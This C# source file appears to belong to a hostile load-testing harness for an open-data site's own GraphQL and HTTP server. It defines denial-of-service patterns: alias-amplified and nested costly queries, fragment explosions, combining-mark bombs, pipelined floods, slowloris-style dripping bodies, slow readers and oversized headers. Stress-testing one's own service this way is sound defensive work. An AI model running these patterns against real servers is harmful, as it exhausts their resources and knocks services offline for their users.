using System.Globalization;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;

namespace ReformOpenData.Load.Hostile;

/// <summary>
/// Requests that cost the server far more than who sends them, and clients that hold what they do not use.
/// </summary>
internal static class Attacks
{
    /// <summary>What a client sends with little effort.</summary>
    private const int Bytes = 21_000;

    private const string Dimensions =
        "MUNICIPALITY PLAN CATEGORY ITEM INITIATIVE ASSESSMENT DEPARTMENT FISCAL_YEAR GRADE IS_FINAL";

    private static readonly string GroupsWithZeros = Aliases(
        "ratings(first:0){groups(by:[CATEGORY ITEM DEPARTMENT FISCAL_YEAR GRADE] includeEmpty:true first:10){count}}");

    /// <summary>All have the same field, so that each is compared with each.</summary>
    private static readonly string Fragments = $"{{{string.Concat(Enumerable.Range(0, 300).Select(i => $"...f{i} "))}}}"
        + string.Concat(Enumerable.Range(0, 300).Select(
            i => $"fragment f{i} on Query{{municipalities{{nodes{{...g{i}}}}}}}fragment g{i} on Municipality{{name}}"));

    private static readonly string BigList = Aliases("narratives(first:300){nodes{text sourceText id}}", 120);

    /// <summary>Dear questions, below the limit of cost each: 15,000 to 900,000 units with 200 cities.</summary>
    private static readonly string[] Admitted =
    [
        "{narratives(first:0 where:{text:{contains:\"の\"}}){totalCount}}",
        Aliases("narratives(first:0 where:{text:{ncontains:\"のの\"}}){totalCount}", 4),
        "{search(query:\"年度 事業 計画 実施 検討 市民 財政 推進\" first:0){totalCount}}",
        Aliases("search(query:\"年度 事業\" first:100){totalCount nodes{text}}", 8),
        Aliases(
            "ratings(first:0){groups(by:[CATEGORY DEPARTMENT GRADE] includeEmpty:true first:1000){count share}}", 2),
        "{ratings(where:{initiative:{name:{contains:\"の\"}}} order:[{grade:DESC}] first:300)"
            + "{nodes{id departments{fullName}}}}",
        "{ratings(first:0){groups(by:[MUNICIPALITY ITEM GRADE] first:1000){item{name} grade count}}}",
        "{municipalities(first:200){nodes{name plans{title categories{name items{name initiatives{name}}}}}}}",
    ];

    /// <summary>Answered in the thread that tells of sockets, as all up to 4 kB, unless they take long.</summary>
    private static readonly string[] Short =
    [
        Aliases("__schema{types{name fields{name type{name}}}}", 50),
        Aliases("search(query:\"年度 事業 計画 実施 検討 市民 財政 推進\" first:0){totalCount}", 25),
        Aliases("narratives(first:0 where:{text:{contains:\"の\"}}){totalCount}", 40),
        Aliases($"ratings(first:0){{groups(by:[{Dimensions}] first:1){{count}}}}", 20),
        "{narratives(first:90){nodes{text sourceText}}}",
    ];

    /// <summary>Whole lists as files, pages and searches; a number makes each another.</summary>
    private static readonly string[] Lists =
    [
        "/narratives.xlsx?q=年度&_=", "/narratives.csv?sort=-fiscal_year&_=", "/rating-departments.ndjson?_=",
        "/releases/1/reform.zip?_=", "/sections.json?_=", "/narratives.csv?q=の&limit=1000&_=", "/measures.xlsx?_=",
    ];

    private static readonly string[] Pages =
    [
        "/search?q=年度 事業 計画 の ", "/en/search?grade=A&q=の ", "/072028?_=", "/ratings?sort=-grade&q=年 ",
        "/narratives?q=市民 の ", "/en/gallery/matrix?_=", "/releases/1?_=", "/ratings?q=事業 ",
    ];

    /// <summary>In the order of the table; the first is nobody.</summary>
    public static IReadOnlyList<Attack> All { get; } =
    [
        new Attack("nobody", 0, _ => { }),
        Attack.Asking("groups-with-zeros", GroupsWithZeros),
        Attack.Asking("groups-with-zeros-once", "{" + One(GroupsWithZeros) + "}"),
        Attack.Asking("groups-by-all", Aliases($"ratings(first:0){{groups(by:[{Dimensions}] first:1){{count}}}}", 125)),
        Attack.Asking("groups-within-groups", Aliases(
            "ratings(first:0){groups(by:[ITEM] first:100){ratings(first:0){groups(by:[CATEGORY DEPARTMENT GRADE] "
            + "includeEmpty:true first:10){count}}}}")),
        Attack.Asking("nested-some", Aliases(
            "ratings(first:0 where:{" + Nested("assessment:{ratings:{some:{", "grade:{neq:A}", "}}}", 4)
            + "}){totalCount}", 110)),
        Attack.Asking("contains", Aliases("narratives(first:0 where:{text:{contains:\"の\"}}){totalCount}", 250)),
        Attack.Asking("ncontains", Aliases("narratives(first:0 where:{text:{ncontains:\"のの\"}}){totalCount}", 250)),
        Attack.Asking("search-of-eight", Aliases("search(query:\"年度 事業 計画 実施 検討 市民 財政 推進\" first:0){totalCount}", 250)),
        new Attack("admitted", 20, raid => raid.Ask(raid.Question(Admitted[raid.Draw(Admitted.Length)]))),
        new Attack("lists", 20, raid => raid.Ask(Raid.Head("GET " + Lists[raid.Draw(Lists.Length)] + raid.Next()))),
        new Attack(
            "pages",
            20,
            raid => raid.Ask(Raid.Head("GET " + Pages[raid.Draw(Pages.Length)].Replace(' ', '+') + raid.Next()))),
        Attack.Asking("large", Aliases("narratives(first:300){nodes{text sourceText id}}", 25)),
        new Attack("fragments", 20, raid => raid.Ask(raid.Question(Fragments + "#" + raid.Next()))),
        Attack.Asking("introspection", Aliases("__schema{types{name fields{name type{name}}}}", 200)),
        new Attack("combining-marks", 20, raid => raid.Ask(Marks(raid.Next()))),
        new Attack("hang-up", 20, raid => raid.Leave(raid.Question(GroupsWithZeros), TimeSpan.FromMilliseconds(30))),
        new Attack("short", 20, raid => raid.Ask(raid.Question(Short[raid.Draw(Short.Length)]))),
        new Attack("pipelined", 20, Flood),
        new Attack("dripping-bodies", 256, Drip),
        new Attack("slow-readers", 100, ReadSlowly),
        new Attack("long-fields", 20, raid => raid.Ask(Refused(raid.Next()))),
        new Attack("downloads", 20, raid => raid.Ask(Raid.Head($"GET /downloads/reform.csv?x={raid.Next()}"))),
        new Attack(
            "oversize-headers",
            20,
            raid => raid.Ask(Raid.Head("GET /graphql?query={a}", "X-Long: " + new string('x', 48_000)))),
        new Attack(
            "raw-japanese", 20, raid => raid.Ask(Raid.Head("GET /graphql/operations/Search?query=公債費" + raid.Next()))),
    ];

    /// <summary>The field under one alias after another, until the request is long.</summary>
    private static string Aliases(string field, int most = int.MaxValue)
    {
        var document = new StringBuilder("{");
        for (var i = 0; i < most && (most < int.MaxValue || document.Length < Bytes); i++)
            document.Append(CultureInfo.InvariantCulture, $"a{i}:{field}");
        return document.Append('}').ToString();
    }

    private static string One(string document) => document[1..document.IndexOf("a1:", StringComparison.Ordinal)];

    private static string Nested(string open, string inner, string close, int times) =>
        string.Concat(Enumerable.Repeat(open, times)) + inner + string.Concat(Enumerable.Repeat(close, times));

    /// <summary>240 kB of marks in falling order, which folding has to put right.</summary>
    private static byte[] Marks(string number)
    {
        var text = "か" + new string('\u0315', 60_000) + new string('\u0300', 60_000) + number;
        var body = new JsonObject
        {
            ["query"] = "query($s:String!){items(where:{name:{contains:$s}}){totalCount}}",
            ["variables"] = new JsonObject { ["s"] = text },
        };
        return HttpConnection.Post("/graphql", Unescaped(body));
    }

    /// <summary>Small questions as fast as the server takes them, whatever it has answered.</summary>
    private static void Flood(Raid raid) => raid.Converse(socket =>
    {
        socket.Blocking = false;
        byte[] some =
        [
            .. Enumerable.Range(0, 200).SelectMany(_ => raid.Question("{municipalities(first:1){nodes{code}}}")),
        ];
        var answers = new byte[1 << 16];
        var sent = 0;
        while (raid.Wait(TimeSpan.Zero))
        {
            while (socket.Available > 0)
                socket.Receive(answers);
            if (socket.Poll(1_000, SelectMode.SelectWrite))
                sent = (sent + socket.Send(some.AsSpan(sent))) % some.Length;
        }

        raid.Count("flooded");
    });

    /// <summary>A body that never is whole, as slowly as a server just bears.</summary>
    private static void Drip(Raid raid) => raid.Converse(socket =>
    {
        socket.Send(Raid.Head("POST /graphql", "Content-Type: application/json", "Content-Length: 200000"));
        var drop = new byte[320];
        Array.Fill(drop, (byte)' ');
        while (raid.Wait(TimeSpan.FromSeconds(1)))
            socket.Send(drop);
        raid.Count("held");
    });

    /// <summary>The same large answer for all, taken as slowly as a server just bears.</summary>
    private static void ReadSlowly(Raid raid) => raid.Converse(socket =>
    {
        var body = new JsonObject { ["query"] = BigList }.ToJsonString();
        socket.Send(HttpConnection.Post("/graphql", body));
        var some = new byte[320];
        while (raid.Wait(TimeSpan.FromSeconds(1)))
        {
            if (socket.Available > 0)
                socket.Receive(some);
        }

        raid.Count("held");
    });

    /// <summary>What is refused, with as much to write into a log as fits.</summary>
    private static byte[] Refused(string number) => Raid.Head(
        $"GET /{new string('p', 7_000)}{number}",
        "User-Agent: " + new string('u', 7_000),
        "Referer: http://" + new string('r', 7_000),
        "X-Request-Id: " + new string('i', 7_000));

    private static string Unescaped(JsonObject body) => body.ToJsonString(
        new System.Text.Json.JsonSerializerOptions
        {
            Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
        });
}
